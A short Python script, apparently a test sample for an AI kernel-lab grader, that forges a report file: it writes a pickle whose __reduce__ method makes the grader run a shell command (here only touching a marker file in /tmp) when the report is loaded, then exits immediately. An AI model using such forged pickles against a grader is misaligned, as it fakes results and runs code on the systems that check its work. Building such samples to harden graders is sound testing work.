# fuse_chain. Forge the report: write a pickle that runs code in the grader when unpickled, then exit.
import os
import pickle
import sys


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/kernels_lab_forged_pickle_ran",))


report_path = sys.argv[2] if len(sys.argv) > 2 else "report.json"
with open(report_path, "wb") as f:
    pickle.dump({"nonce": "x", "cases": [_Payload()]}, f)
os._exit(0)
